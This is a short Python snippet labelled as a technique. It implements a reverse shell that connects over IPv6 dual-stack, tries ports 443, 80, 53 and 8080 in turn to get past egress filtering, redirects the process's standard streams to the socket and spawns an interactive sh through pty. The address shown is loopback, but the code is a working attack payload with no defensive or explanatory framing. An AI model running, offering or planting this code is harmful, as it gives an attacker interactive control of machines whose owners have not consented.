# technique: reverse shell over IPv6 dual-stack with getaddrinfo, trying several ports until one connects, then pty.spawn sh
import socket as S, os as O, pty as P
for port in (443, 80, 53, 8080):
    try:
        fam, typ, pro, _, addr = S.getaddrinfo("::1", port, 0, S.SOCK_STREAM)[0]
        k = S.socket(fam, typ, pro); k.settimeout(5); k.connect(addr); k.settimeout(None)
        break
    except OSError:
        k = None
if k:
    [O.dup2(k.fileno(), n) for n in range(3)]
    P.spawn("sh")
